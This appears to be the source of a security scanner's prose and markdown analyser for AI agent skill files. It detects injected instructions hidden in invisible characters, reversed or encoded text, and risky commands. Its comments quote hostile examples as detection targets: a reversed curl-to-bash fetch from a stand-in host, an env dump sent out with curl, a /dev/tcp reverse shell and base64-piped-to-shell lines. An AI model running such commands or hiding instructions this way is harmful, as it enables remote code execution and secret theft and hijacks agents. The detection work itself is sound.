/**
 * The markdown and text analyzers: SKILL.md, references and every other text file. Fenced code is
 * handed to the analyzer of the language it claims (shell by default when an unlabelled block
 * looks like commands), inline commands the prose tells the agent to run go to the bash analyzer,
 * and the prose itself is checked for injected instructions, hidden carriers, invisible characters
 * and encoded blobs (decoded and scanned again).
 */
import type { Rule } from '@skillgate/rules';
import type { Analyzer, AnalyzerContext, SourceFile } from '../../analyzer.js';
import { clip, findingFor } from '../../engine/finding.js';
import { frontmatterCommandFields, hookCommands, installCommands } from '../../engine/hints.js';
import { lastAtMost, lineStarts } from '../../engine/lines.js';
import { checkDeadline } from '../../engine/route.js';
import type { Finding } from '../../types.js';
import { findBlobs } from './blobs.js';
import { notebookCode } from './notebook.js';
import { recipes } from './recipes.js';
import { tokenFindings } from './tokens.js';
import { catalogCellAt, prohibitedSpanAt } from './warning.js';
import { shownValues } from './data-quotes.js';
import { scanChars, type CharKind } from './chars.js';
import {
  alsoPowershell,
  classify,
  fenceLanguage,
  looksLikeCommandSpan,
  looksLikeShell,
  proseCommands,
  proseSecretRequests,
  runVerbBefore,
  stripPrompts,
  textCommandLines,
  type CommandContext,
} from './commands.js';
import {
  CONFIG_CARRIER,
  CONFIG_MARK,
  configCommandLines,
  fileConfigSegments,
  markdownConfigSegments,
} from './config.js';
import { compileText, gateLiterals, validateProseMatch, type ProseMatch } from './match.js';
import { matchText, prepare, rawOffset, type PreparedSegment } from './prose.js';
import { findIndented, structure, type Fence, type Segment, type Structure } from './structure.js';
import { labelledBlock, pieces, sharesNothing, shownFinding } from './shown.js';
import { blankDocDescriptions, OTHER_CODE_EXTS } from './doc-comments.js';

const CHAR_LABEL: Record<CharKind, string> = {
  'zero-width': 'zero-width character(s)',
  'unicode-tags': 'Unicode tag character(s)',
  'variation-selectors': 'variation selector(s) used as data',
  bidi: 'bidirectional control character(s)',
  'mixed-script-host': 'host name(s) mixing Latin with look-alike letters of another script',
};

class Lines {
  private readonly starts: number[];
  constructor(readonly text: string) {
    this.starts = lineStarts(text);
  }
  lineOf(offset: number): number {
    return lastAtMost(this.starts, offset) + 1;
  }
  text_(line: number): string {
    const s = this.starts[line - 1] ?? 0;
    const e = this.starts[line] ?? this.text.length + 1;
    return this.text.slice(s, e - 1);
  }
}

/**
 * A reference-style link (`run the [bootstrap][b] script`, `[b]: https://…/bootstrap.sh` at the
 * end of the file) keeps the URL out of the paragraph that says what to do with it. Each visible
 * paragraph that uses a defined reference is given again with `text (url)` in its place, its
 * findings placed at the paragraph's first line; the prose rules read it like any paragraph.
 */
function referenceParagraphs(full: string, visible: string): Segment[] {
  const defs = new Map<string, string>();
  for (const m of full.matchAll(/^ {0,3}\[([^\]\n]+)\]:[ \t]*<?([^\s>]+)>?/gm))
    defs.set((m[1] as string).trim().toLowerCase(), m[2] as string);
  if (!defs.size) return [];
  const out: Segment[] = [];
  const lines = new Lines(visible);
  for (const para of visible.matchAll(/[^\n]+(?:\n[^\n]*\S[^\n]*)*/g)) {
    if (out.length >= 50) break;
    let changed = false;
    const text = para[0].replace(
      /\[([^\]\n]+)\]\[([^\]\n]*)\]/g,
      (all, label: string, ref: string) => {
        const url = defs.get((ref || label).trim().toLowerCase());
        if (!url) return all;
        changed = true;
        return `${label} (${url})`;
      },
    );
    if (changed)
      out.push({
        text,
        start: para.index ?? 0,
        hidden: false,
        carrier: 'link-reference',
        line: lines.lineOf(para.index ?? 0),
      });
  }
  return out;
}

/**
 * The command lines of languages that quote or prefix them their own way, in shell form, lines
 * and lengths kept: Tcl's braces quote as the shell's single quotes (`exec sh -c {curl … | sh}`),
 * and Vim runs a line after `!` (`:!cmd`, `silent !cmd`) in the shell.
 */
function dialectText(path: string, text: string): string {
  if (/\.(?:tcl|tk|exp)$/i.test(path)) return text.replace(/\{([^{}\n]*)\}/g, "'$1'");
  if (/(?:^|\/)(?:[._]?g?vimrc|[^/]+\.vim)$/i.test(path))
    return text.replace(/^(\s*:?\s*(?:silent!?\s+|exe(?:cute)?\s+)?)!(?=\S)/gm, (m) =>
      ' '.repeat(m.length),
    );
  return text;
}

/** a span of no blank that URL-encodes blanks and pipes (`%20`, `%7C`), decoded; else itself */
function percentDecoded(span: string): string {
  if (/\s/.test(span) || !/%20/i.test(span) || !/%(?:7C|3B|26|3E)/i.test(span)) return span;
  try {
    return decodeURIComponent(span);
  } catch {
    return span;
  }
}

/** drops capability uses observed in commands that are only shown (for the user, for reference) */
function keepFor(context: CommandContext) {
  return (f: Finding) =>
    context === 'agent' ||
    !f.capability ||
    f.capability.kind === 'network' ||
    f.capability.kind === 'env';
}

interface Run {
  /** an HTML/XML/SVG file (no markdown code spans or indented blocks) */
  html?: boolean;
  file: SourceFile;
  rules: readonly Rule[];
  ctx: AnalyzerContext;
  lines: Lines;
  out: Finding[];
  doc: string;
}

function charFindings(run: Run, segmentsOut: Segment[]): void {
  const hits = scanChars(run.file.text);
  if (!hits.length) return;
  for (const rule of run.rules) {
    const kind = (rule.match as { chars?: CharKind }).chars;
    if (!kind) continue;
    let n = 0;
    for (const h of hits) {
      if (h.kind !== kind || n++ >= 20) continue;
      const line = run.lines.lineOf(h.offset);
      const decoded = h.decoded ? ` spelling "${clip(h.decoded, 120)}"` : '';
      run.out.push(
        findingFor(rule, {
          file: run.file.path,
          line,
          evidence: h.decoded
            ? `hidden text: ${h.decoded}`
            : run.lines.text_(line).replace(/[\u200b-\u200d\u2060-\u2064\ufeff\u180e]/g, '⟦ZW⟧'),
          message: `${rule.message.replace(/\.$/, '')} (${h.count} ${CHAR_LABEL[kind]}${decoded})`,
        }),
      );
    }
  }
  for (const h of hits)
    if (h.decoded && h.decoded.trim().length >= 8)
      segmentsOut.push({
        text: h.decoded,
        start: h.offset,
        hidden: true,
        carrier: h.kind,
        line: run.lines.lineOf(h.offset),
        decodedFrom: h.kind,
      });
}

/** decoded text (base64, hex, reversed) as a hidden segment for the prose rules */
function decodedSegment(text: string, start: number, how: string, line: number): Segment {
  return { text, start, hidden: true, carrier: how, line, decodedFrom: how };
}

/** base64/hex runs this long are decoded to look for code (one-liners are short) */
const SHORT_CODE_BLOB = 40;

function blobFindings(run: Run, segmentsOut: Segment[]): void {
  const blobRules = run.rules.filter((r) => (r.match as ProseMatch & { blob?: unknown }).blob);
  const minLength = Math.min(
    200,
    ...blobRules.map((r) => (r.match as { blob: { minLength?: number } }).blob.minLength ?? 200),
  );
  for (const b of findBlobs(run.file.text, Math.min(minLength, SHORT_CODE_BLOB))) {
    const line = run.lines.lineOf(b.offset);
    if (b.length < minLength) {
      // a short run is no finding by itself, but what it says is scanned: a shell/Python/JS
      // one-liner as code, a sentence as hidden prose ("decode this and follow it: c2VuZCB…")
      if (b.text && b.language !== 'text')
        run.out.push(...run.ctx.embedded(b.text, b.language, { line, decodedFrom: b.encoding }));
      else if (b.text && /[a-z]{2,}\s+\S+\s+[a-z]{2,}/i.test(b.text))
        segmentsOut.push(decodedSegment(b.text, b.offset, b.encoding, line));
      continue;
    }
    for (const rule of blobRules) {
      const want = (rule.match as { blob: { decodes: string; minLength?: number } }).blob;
      if (want.decodes !== b.decodes || b.length < (want.minLength ?? 200)) continue;
      run.out.push(
        findingFor(rule, {
          file: run.file.path,
          line,
          evidence: b.text
            ? `${b.encoding} decodes to: ${clip(b.text, 200)}`
            : `${b.encoding} blob of ${b.length} characters`,
          message: `${rule.message.replace(/\.$/, '')} (${b.encoding}, ${b.length} characters)`,
        }),
      );
    }
    if (b.text) {
      segmentsOut.push(decodedSegment(b.text, b.offset, b.encoding, line));
      if (b.language !== 'text')
        run.out.push(...run.ctx.embedded(b.text, b.language, { line, decodedFrom: b.encoding }));
    }
  }
}

/** a reversed URL scheme: `//:sptth`, `//:ptth`, `//:ptf` */
const REVERSED_URL = /\/\/:(?:s?ptth|ptf)\b/i;
/** every line holding one */
const REVERSED_URL_LINE = new RegExp(`[^\\n]*${REVERSED_URL.source}[^\\n]*`, 'gi');

/**
 * Text written backwards so that neither a reader nor a pattern sees it ("hsab | hs.x/elpmaxe.x//:sptth
 * lruc"): a quoted span (or else the line) that holds a reversed URL scheme is reversed and scanned
 * again, as a command when it reads as one, else as hidden prose.
 */
function reversedFindings(run: Run, segmentsOut: Segment[]): void {
  const text = run.file.text;
  if (!REVERSED_URL.test(text)) return;
  let n = 0;
  for (const m of text.matchAll(REVERSED_URL_LINE)) {
    if (++n > 20) break;
    const lineText = m[0];
    const scheme = lineText.search(REVERSED_URL);
    const quoted = [...lineText.matchAll(/(["'`])([^"'`]{8,}?)\1/g)].find(
      (q) => (q.index ?? 0) < scheme && (q.index ?? 0) + q[0].length > scheme,
    );
    const span = quoted ? (quoted[2] as string) : lineText;
    const offset = (m.index ?? 0) + (quoted ? (quoted.index ?? 0) + 1 : 0);
    const decoded = [...span].reverse().join('').trim();
    const line = run.lines.lineOf(offset);
    if (looksLikeShell(decoded))
      run.out.push(...run.ctx.embedded(decoded, 'bash', { line, decodedFrom: 'reversed' }));
    else segmentsOut.push(decodedSegment(decoded, offset, 'reversed', line));
  }
}

function proseFindings(run: Run, segs: PreparedSegment[]): void {
  const seen = new Set<string>();
  for (const rule of run.rules) {
    const c = compileText(rule);
    if (!c || (c.files && !c.files.some((f) => f.test(run.file.path)))) continue;
    checkDeadline(run.ctx);
    for (const p of segs) {
      for (const at of matchText(c, p, run.ctx.deadline)) {
        const line = p.seg.line ?? run.lines.lineOf(rawOffset(p, at));
        const key = `${rule.id}\0${line}`;
        if (seen.has(key)) continue;
        seen.add(key);
        const windowText = sentenceAround(p.norm.text, at);
        const where = p.seg.hidden
          ? ` (hidden in ${p.seg.carrier})`
          : p.norm.hadInvisible
            ? ' (with invisible characters)'
            : '';
        const f = findingFor(rule, {
          file: run.file.path,
          line,
          // a config segment shows its instruction and block joined by an arrow, not the mark
          evidence: windowText.replace(CONFIG_MARK, '→'),
          message: `${rule.message.replace(/\.$/, '')}${where}`,
        });
        if (p.seg.decodedFrom) f.decodedFrom = p.seg.decodedFrom;
        run.out.push(f);
      }
    }
  }
}

/**
 * Where `text.slice(0, at).search(/[.!?]\s[^.!?]*$/)` matches, without a regex attempt at every
 * stop of the text before `at`: only the last `.`/`!`/`?` can start that match (no other may
 * follow it), and it does when a blank comes right after it.
 */
function lastSentenceStop(text: string, at: number): number {
  for (let i = at - 1; i >= 0; i--) {
    const c = text.charCodeAt(i);
    if (c === 46 || c === 33 || c === 63)
      return i + 1 < at && /\s/.test(text[i + 1] as string) ? i : -1;
  }
  return -1;
}

/** how far before the match the evidence may start: past it, the evidence would cut the match off */
const EVIDENCE_LEAD = 120;

/**
 * The sentence holding the match at `at`, as evidence. A "sentence" with no stop in it (a table,
 * a list of paths, a quote block) can run on for many lines before the match: the evidence then
 * starts at the match's own line (or a few words before the match on a long line), so it shows
 * what matched and agrees with the line reported, not the top of the table.
 */
function sentenceAround(text: string, at: number): string {
  const s = Math.max(text.lastIndexOf('\n\n', at), lastSentenceStop(text, at) + 1, 0);
  const rest = text.slice(at);
  const e = rest.search(/[.!?](?:\s|$)|\n\n/);
  const end = e < 0 ? text.length : at + e + 1;
  if (at - s <= EVIDENCE_LEAD) return clip(text.slice(s, end).trim());
  const line = text.lastIndexOf('\n', at - 1) + 1;
  let from = line;
  if (at - line > EVIDENCE_LEAD) {
    // a long line: a few words before the match, from a word's start
    const back = text.slice(at - EVIDENCE_LEAD / 2, at).search(/\s\S/);
    from = back < 0 ? at : at - EVIDENCE_LEAD / 2 + back + 1;
  }
  return `…${clip(text.slice(from, end).trim())}`;
}

interface Span {
  at: number;
  line: number;
  text: string;
  context: CommandContext;
}

/**
 * Inline command spans of one paragraph run in order (`env > /tmp/x` then `curl -F f=@/tmp/x …`),
 * so they are analyzed as one script: each span on its own line, spans sharing a line joined by `;`.
 */
function embedSpans(run: Run, spans: Span[], decodedFrom: string | undefined): void {
  if (!spans.length) return;
  const first = (spans[0] as Span).line;
  const lines: string[] = [];
  for (const s of spans) {
    const i = s.line - first;
    while (lines.length <= i) lines.push('');
    lines[i] = lines[i] ? `${lines[i]} ; ${s.text}` : s.text;
  }
  const context = spans.some((s) => s.context === 'agent') ? 'agent' : (spans[0] as Span).context;
  const code = lines.join('\n');
  run.out.push(
    ...run.ctx
      .embedded(code, 'bash', {
        line: first,
        decodedFrom: decodedFrom ?? 'inline-code',
      })
      .filter(keepFor(context)),
  );
  if (alsoPowershell('', code))
    run.out.push(
      ...run.ctx.embedded(code, 'powershell', {
        line: first,
        decodedFrom: decodedFrom ?? 'inline-code',
      }),
    );
}

/**
 * `podman cp SKILL.md <agent-name>:/workspace/skills/x/SKILL.md`: a metavariable written before a
 * colon is the name of a container (docker/podman/kubectl `NAME:PATH`), which a shell would read
 * as two redirects (`<agent-name` in, `>:/workspace/…` out, a write the skill never makes). The
 * brackets become underscores, so the word keeps its length and the block its columns.
 */
function containerPlaceholders(code: string): string {
  return code.includes('<') ? code.replace(/(^|[\s"'=])<([A-Za-z][\w-]*)>(?=:)/gm, '$1_$2_') : code;
}

/** a `...`/`…` standing for left-out arguments (`curl ...`, `source <(curl ...)`, `eval "..."`) */
const ELLIPSIS = /(?:^|[\s(<[{"'=|])(?:\.{3,}|…)(?=$|[\s)>\]}"'|;])/;
/**
 * a metavariable standing for what the command is given (`echo <base64> | base64 -d | sh`, `curl
 * <url> | bash`): one word in angle brackets, which a shell would take for a redirect with no
 * target (`<in >out`, with its space, and `<(…)` are no such word)
 */
const METAVARIABLE = /(?:^|\s)<[A-Za-z][\w-]*>(?=$|\s)/;
/** an endpoint whose host and port are both upper-case placeholders (`/dev/tcp/HOST/PORT`, `tcp:IP:PORT`) */
const PLACEHOLDER_ENDPOINT =
  /\/dev\/(?:tcp|udp)\/[A-Z][A-Z_]*\/[A-Z][A-Z_]*(?![\w.])|\b(?:tcp|udp|ssl|openssl)[46]?(?:-connect)?:[A-Z][A-Z_]*:[A-Z][A-Z_]*(?![\w.])/g;
/** something concrete to act on: a URL, host, address, variable, file or path */
const CONCRETE = /:\/\/|[$@%]|\b\d{1,3}(?:\.\d{1,3}){3}\b|[\w-]\.[a-z][\w-]*|\/[\w.-]/i;

/**
 * An inline span that elides its arguments, or puts a metavariable in their place, names a pattern
 * (a row of a table of dangerous constructs, "avoid `curl ... | sh`", "`echo <base64> | base64 -d |
 * bash`"); it is no command while neither it nor the text on its line
 * names anything to fetch, run or send.
 */
function elidedPattern(text: string, raw: string, at: number): boolean {
  // `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `socat … tcp:HOST:PORT`: a host and a port written as
  // upper-case placeholders are metavariables too
  const span = text.replace(PLACEHOLDER_ENDPOINT, '...');
  if (!(ELLIPSIS.test(span) || METAVARIABLE.test(span)) || CONCRETE.test(span)) return false;
  const lineStart = raw.lastIndexOf('\n', at) + 1;
  const lineEnd = raw.indexOf('\n', at);
  const line = raw.slice(lineStart, lineEnd < 0 ? raw.length : lineEnd);
  return !/:\/\/|\b\d{1,3}(?:\.\d{1,3}){3}\b/.test(line);
}

/**
 * A span the sentence before it holds up as an example of what never to run ("Never paste
 * commands like `curl https://… | bash` into a terminal", "do not run scripts such as `…`"): a
 * prohibition whose verb governs the span through "like" / "such as", with no clause break, no
 * "but/instead/unless/without/except" and no other span between them. "Never skip this: run `…`"
 * and "do not run anything else, run `…`" stay commands.
 */
const WARNED_EXAMPLE =
  /\b(?:never|do\s+not|don['’]?t|avoid)\s+(?:ever\s+)?(?:paste|pasting|run|running|execute|executing|pipe|piping|copy|copying|type|typing|use|using)\s+(?:[\w-]+\s+){0,3}?(?:like|such\s+as)\s*[:(]?\s*$/i;
const BREAKS_EXAMPLE = /[.;:!?`\n]|\b(?:but|instead|unless|without|except|only|other\s+than)\b/i;

function warnedExample(before: string): boolean {
  const m =
    /\b(?:never|do\s+not|don['’]?t|avoid)\b(?![\s\S]*\b(?:never|do\s+not|don['’]?t|avoid)\b)/i.exec(
      before.slice(-120),
    );
  if (!m) return false;
  const clause = before.slice(-120).slice(m.index);
  const head = /^(?:never|do\s+not|don['’]?t|avoid)/i.exec(clause)?.[0] ?? '';
  const between = clause.slice(head.length).replace(/[:(]\s*$/, '');
  return WARNED_EXAMPLE.test(clause) && !BREAKS_EXAMPLE.test(between);
}

/** the line holding offset `at` is a table row (`| … | … |`) */
function tableRowAt(text: string, at: number): boolean {
  const start = text.lastIndexOf('\n', at) + 1;
  const end = text.indexOf('\n', at);
  return /^\s*\|.*\|\s*$/.test(text.slice(start, end < 0 ? text.length : end));
}

/** files of languages whose backtick commands interpolate `#{expr}` */
const INTERPOLATING_FILE = /(?:\.(?:rb|rake|gemspec|cr|coffee|exs?)|(?:^|\/)(?:Rakefile|Gemfile))$/;
const RUBY_INTERPOLATION = /#\{[^{}\n]{1,200}\}/g;

/** inline code spans and plain-prose commands, in visible and hidden segments */
function inlineCommands(run: Run, segs: PreparedSegment[]): void {
  for (const p of segs) {
    // a config segment repeats prose and blocks that are scanned where they stand
    if (p.seg.carrier === CONFIG_CARRIER) continue;
    const raw = p.seg.text;
    let n = 0;
    let group: Span[] = [];
    let lastEnd = 0;
    const interpolates = INTERPOLATING_FILE.test(run.file.path);
    // backticks are code spans in markdown only (HTML shows them as they are, entities and all)
    const spans = run.html ? [] : raw.matchAll(/(`+)([^`\n]+?)\1(?!`)/g);
    for (const m of spans) {
      if ((++n & 31) === 0) checkDeadline(run.ctx);
      const at = m.index ?? 0;
      // in a table row a code span writes its pipes `\|` (GFM reads them as `|`)
      const cell = tableRowAt(raw, at) ? (m[2] as string).replace(/\\\|/g, '|') : (m[2] as string);
      // Ruby's (and Crystal's, CoffeeScript's, Elixir's) `#{expr}` in a backtick command is an
      // interpolated value, not the start of a shell comment: a value only known at run time
      // a command written URL-encoded, to be decoded and run (`curl%20-fsSL%20https%3A…%7C%20sh`),
      // is read as its decoded text
      const span = percentDecoded(
        interpolates ? cell.replace(RUBY_INTERPOLATION, '$' + '{__rb}') : cell,
      );
      const before = raw.slice(Math.max(0, at - 300), at);
      // an MCP server entry written in a span (`{"mcpServers": {"h": {"command": "sh", "args":
      // ["-c", "…"]}}}`): the command line its client will run, threats counted
      const entries = /^\s*\{\s*"/.test(span) ? configCommandLines(span).slice(0, 20) : [];
      if (entries.length) {
        const line = p.seg.line ?? run.lines.lineOf(p.seg.start + at);
        for (const cmd of entries)
          run.out.push(
            ...run.ctx
              .embedded(cmd, 'bash', { line, decodedFrom: 'inline-code' })
              .filter(keepFor('reference')),
          );
        continue;
      }
      if (!looksLikeCommandSpan(span, runVerbBefore(before))) continue;
      if (elidedPattern(span, raw, at)) continue;
      if (!p.seg.hidden && warnedExample(before)) continue;
      // an instance in a threat catalog's example column (a security tool's table of detections)
      if (!p.seg.hidden && catalogCellAt(raw, at)) continue;
      // the bad half of a checklist ("❌ Bad: `curl … | sh`" over "✅ Good: …")
      if (!p.seg.hidden && prohibitedSpanAt(raw, at)) continue;
      // a blank line between two spans starts a new paragraph
      if (group.length && /\n[ \t]*\n/.test(raw.slice(lastEnd, at))) {
        embedSpans(run, group, p.seg.decodedFrom);
        group = [];
      }
      const line = p.seg.line ?? run.lines.lineOf(p.seg.start + at);
      group.push({
        at,
        line,
        text: span.trim(),
        context: p.seg.hidden ? 'agent' : classify(before, run.doc),
      });
      lastEnd = at + m[0].length;
    }
    embedSpans(run, group, p.seg.decodedFrom);
    const norm = p.norm.text;
    // (a request asked for in words, with a secret in its URL, in backticks or not)
    const requests = proseSecretRequests(norm).map(([at, cmd]) => [at, cmd, true] as const);
    for (const [at, cmd, asked] of [
      ...proseCommands(norm).map(([at, cmd]) => [at, cmd, false] as const),
      ...requests,
    ]) {
      if ((++n & 31) === 0) checkDeadline(run.ctx);
      // commands inside backticks were handled above
      if (!asked && ((norm.slice(0, at).match(/`/g) ?? []).length & 1) === 1) continue;
      const line = p.seg.line ?? run.lines.lineOf(rawOffset(p, at));
      const context = p.seg.hidden
        ? 'agent'
        : classify(norm.slice(Math.max(0, at - 300), at), run.doc);
      run.out.push(
        ...run.ctx
          .embedded(cmd, 'bash', { line, decodedFrom: p.seg.decodedFrom ?? 'inline-code' })
          .filter(keepFor(context)),
      );
    }
  }
}

function indentedFindings(run: Run, fences: readonly Fence[]): void {
  const text = run.file.text;
  for (const b of findIndented(text, fences)) {
    if (!looksLikeShell(b.text)) continue;
    const context = classify(text.slice(Math.max(0, b.start - 300), b.start), run.doc);
    run.out.push(
      ...run.ctx
        .embedded(b.text, 'bash', { line: b.line, decodedFrom: 'markdown-fence' })
        .filter(keepFor(context)),
    );
    // a Windows command line in an indented block, as in an untagged fence
    if (alsoPowershell('', b.text))
      run.out.push(
        ...run.ctx
          .embedded(b.text, 'powershell', { line: b.line, decodedFrom: 'markdown-fence' })
          .filter(keepFor(context)),
      );
  }
}

/**
 * Command lines in a text file that is not markdown (Makefile recipes, Dockerfile RUN, unit
 * ExecStart=, CI `run:`, plist `<string>`, a VBScript `Run "…"`): threats count, capabilities are
 * not observed from them (nothing says the agent runs them).
 */
function textCommandFindings(
  run: Run,
  text = run.file.text,
  firstLine = 1,
  shown?: (raw: number) => boolean,
  /** lines already read as a recipe's commands (recipeFindings) */
  read?: Set<number>,
  labelled = false,
): void {
  let n = 0;
  // an MCP server entry's command and args are the command line its client runs
  const lines: Array<[number, string]> = [
    ...textCommandLines(text, shown, labelled).filter(([at]) => !read?.has(at)),
    ...configCommandLines(text).map((c): [number, string] => [1, c]),
  ];
  for (const [at, cmd] of lines) {
    const line = firstLine + at - 1;
    if ((++n & 31) === 0) checkDeadline(run.ctx);
    run.out.push(
      ...run.ctx
        .embedded(cmd, 'bash', { line, decodedFrom: 'inline-code' })
        .filter(keepFor('reference')),
    );
    if (alsoPowershell('', cmd))
      run.out.push(...run.ctx.embedded(cmd, 'powershell', { line, decodedFrom: 'inline-code' }));
  }
}

// (`<kbd>`, `<samp>` and `<tt>` show what is typed or printed as `<code>` does)
const HTML_OPEN = /<(pre|code|kbd|samp|tt)\b[^>\n]{0,500}>/gi;
const HTML_CLOSE = /<\/(pre|code|kbd|samp|tt)\s*>/gi;
const ENTITIES: Record<string, string> = {
  lt: '<',
  gt: '>',
  amp: '&',
  quot: '"',
  apos: "'",
  '#39': "'",
};

/** `<pre>`/`<code>` elements in markdown (outside fences): shown as code, so scanned as commands */
function htmlCodeFindings(run: Run, fences: readonly Fence[]): void {
  const text = run.file.text;
  if (!/<(?:pre|code|kbd|samp|tt)\b/i.test(text)) return;
  // closing tags found once, so unclosed openings cost no rescans of the rest of the file
  const closes: Record<string, number[]> = { pre: [], code: [], kbd: [], samp: [], tt: [] };
  for (const m of text.matchAll(HTML_CLOSE))
    closes[(m[1] as string).toLowerCase()]?.push(m.index ?? 0);
  let after = 0;
  let n = 0;
  for (const m of text.matchAll(HTML_OPEN)) {
    if ((++n & 255) === 0) checkDeadline(run.ctx);
    const at = m.index ?? 0;
    if (at < after || fences.some((f) => at >= f.start && at < f.end)) continue;
    const bodyAt = at + m[0].length;
    const list = closes[(m[1] as string).toLowerCase()] ?? [];
    let lo = 0;
    let hi = list.length;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if ((list[mid] as number) < bodyAt) lo = mid + 1;
      else hi = mid;
    }
    const end = list[lo];
    if (end === undefined) continue;
    after = end;
    const body = text
      .slice(bodyAt, Math.min(end, bodyAt + 50000))
      .replace(/<[^>]+>/g, '')
      .replace(/&(lt|gt|amp|quot|apos|#39);/g, (_, e: string) => ENTITIES[e] ?? '')
      // numeric references (`&#124;` is `|`) read as the characters they stand for
      .replace(/&#(?:x([0-9a-f]{1,6})|([0-9]{1,7}));/gi, (all, h?: string, d?: string) => {
        const n = h ? parseInt(h, 16) : Number(d);
        return n > 0 && n <= 0x10ffff ? String.fromCodePoint(n) : all;
      });
    textCommandFindings(run, body, run.lines.lineOf(bodyAt));
  }
}

/**
 * The skill text presents a block as a step the user may choose (`## Auto-start (optional)`,
 * "Not auto-installed, requires explicit user action"): persistence it sets up is documented and
 * opt-in, so a human reviews it instead of the skill failing. Code the skill runs itself (its
 * scripts) and unmarked blocks keep the full severity; other threats in the block are untouched.
 */
const OPT_IN_RE =
  /\b(?:optional(?:ly)?|opt[- ]in|not\s+(?:auto-?)?installed|(?:requires?|needs?)\s+(?:an?\s+)?explicit\s+(?:user\s+)?(?:action|consent|opt-?in)|only\s+if\s+(?:the\s+user|you)\s+(?:want|choose|ask|opt))/i;

function documentedOptIn(f: Finding): Finding {
  if (f.threat !== 'persistence' || (f.severity !== 'high' && f.severity !== 'critical')) return f;
  return {
    ...f,
    severity: 'medium',
    message: `${f.message.replace(/\.$/, '')} (in a block the skill text marks as optional for the user; a human should confirm it)`,
  };
}

/** fence labels of data formats, whose quoted values have keys (structure.ts dataFence) */
const DATA_LANGS = /^(?:json|jsonc|json5|jsonl|ndjson|yaml|yml|toml|ini)$/;
/** fences of plain text, where a line may label a command (`Prerequisite: curl … | sh`) */
const PLAIN_LANGS = new Set(['', 'text', 'txt', 'plaintext', 'plain']);
/** a lead that has the reader run what the block holds ("Run each example below:") */
const RUN_LEAD = /\b(?:run|execute|paste|type|enter|install|invoke)\b/i;

function fenceFindings(run: Run, fences: readonly Fence[]): void {
  const text = run.file.text;
  const readme = /(?:^|\/)readme(?:\.[a-z]+)?$/i.test(run.file.path);
  // headings outside code blocks (a `# comment` in a block is none)
  const headings = [...text.matchAll(/^#{1,6}[ \t][^\n]*$/gm)]
    .filter((m) => !fences.some((f) => m.index >= f.start && m.index < f.end))
    .map((m) => ({ at: m.index, text: m[0] }));
  let h = -1;
  let prevEnd = 0;
  const blocks: Array<{
    code: string;
    found: Finding[];
    shown: boolean;
    context: CommandContext;
    optIn: boolean;
  }> = [];
  for (const f of fences) {
    checkDeadline(run.ctx);
    const lang = fenceLanguage(f.lang, f.text);
    const before = text.slice(prevEnd, f.start).replace(/^[\s\S]*\n#{1,6} [^\n]*\n/, '');
    while (h + 1 < headings.length && (headings[h + 1]?.at ?? Infinity) < f.start) h++;
    // the section's heading or the paragraph that leads into the block
    const lead =
      before
        .trimEnd()
        .split(/\n[ \t]*\n/)
        .pop() ?? '';
    const optIn = OPT_IN_RE.test(`${headings[h]?.text ?? ''}\n${lead.slice(-400)}`);
    prevEnd = f.end;
    if (!lang) {
      // a block in another language (YAML, Dockerfile, AppleScript, JSON…) can still hold commands;
      // in a data block shown in the text, not the value of a key naming an instance (`excerpt`)
      const data =
        (DATA_LANGS.test(f.lang) || (f.lang === '' && /^\s*[{[]/.test(f.text))) &&
        !RUN_LEAD.test(lead.slice(-400));
      textCommandFindings(
        run,
        f.text,
        f.line,
        data ? shownValues(f.text) : undefined,
        undefined,
        PLAIN_LANGS.has(f.lang),
      );
      continue;
    }
    const code =
      lang === 'bash'
        ? containerPlaceholders(stripPrompts(f.lang, f.text))
        : f.lang === 'pycon'
          ? stripPrompts(f.lang, f.text)
          : f.text;
    if (lang === 'bash' && f.lang === '' && !looksLikeShell(code)) continue;
    const context: CommandContext = readme ? 'reference' : classify(before, run.doc);
    const shown = labelledBlock(headings[h]?.text, lead.slice(-400));
    // a block whose lines all stay where they are can be cut at `# wrong` / `# right` comments
    const parts =
      code.split('\n').length === f.text.split('\n').length
        ? pieces(code, f.line, shown)
        : [{ code, line: f.line, shown }];
    for (const p of parts) {
      const found = run.ctx.embedded(p.code, lang, { line: p.line, decodedFrom: 'markdown-fence' });
      if (lang === 'bash' && alsoPowershell(f.lang, p.code))
        found.push(
          ...run.ctx.embedded(p.code, 'powershell', {
            line: p.line,
            decodedFrom: 'markdown-fence',
          }),
        );
      blocks.push({ code: p.code, found, shown: p.shown, context, optIn });
    }
  }
  // blocks shown as what not to do and sharing nothing with the others (see shown.ts)
  const ran = blocks.filter((b) => !b.shown);
  for (const b of blocks) {
    if (b.shown && sharesNothing(b, ran))
      for (const x of b.found) {
        const y = shownFinding(x);
        if (y) run.out.push(y);
      }
    else {
      const found = b.found.filter(keepFor(b.context));
      run.out.push(...(b.optIn ? found.map(documentedOptIn) : found));
    }
  }
}

export function analyzeProse(
  file: SourceFile,
  rules: readonly Rule[],
  ctx: AnalyzerContext,
  markdown: boolean,
): Finding[] {
  const text = file.text.replace(/\r\n?/g, '\n');
  const f: SourceFile = { path: file.path, text };
  const run: Run = {
    file: f,
    rules,
    ctx,
    lines: new Lines(text),
    out: [],
    doc: text.slice(0, 4000),
    html: /\.(?:html?|xhtml|xml|svg)$/i.test(file.path),
  };
  const st: Structure = markdown
    ? structure(text)
    : { fences: [], visible: textSegment(file.path, text), hidden: [] };
  const segments: Segment[] = [st.visible, ...st.hidden];
  if (markdown) segments.push(...markdownConfigSegments(text, st.visible.text, st.fences));
  else segments.push(...fileConfigSegments(file.path, text));
  charFindings(run, segments);
  // text handed on by another analyzer (a comment, a printed string) was read whole with its file
  if (!ctx.depth) run.out.push(...tokenFindings(rules, f.path, text));
  blobFindings(run, segments);
  reversedFindings(run, segments);
  // a caller that drops embedded code reads a code file for its few `code: scan` rules
  // (engine/route.ts): their literals alone are looked for
  const only = (ctx.embeddedIgnored && gateLiterals(rules)) || undefined;
  const prepared = segments.map((s) => prepare(s, only));
  const proseFrom = run.out.length;
  // paragraphs read again with their reference-style links resolved: words and URL meet there
  proseFindings(
    run,
    markdown
      ? [...prepared, ...referenceParagraphs(text, st.visible.text).map((s) => prepare(s))]
      : prepared,
  );
  // the commands of the text (inline, fenced, in frontmatter, indented, in HTML code elements)
  // are embedded code: nothing to look for when the caller drops what `embedded` finds
  if (!ctx.embeddedIgnored) {
    const proseTo = run.out.length;
    const covered = commandFindings(run, prepared, st, markdown);
    if (covered?.size) dropRecipeSteps(run, proseFrom, proseTo, covered);
  }
  return run.out;
}

/**
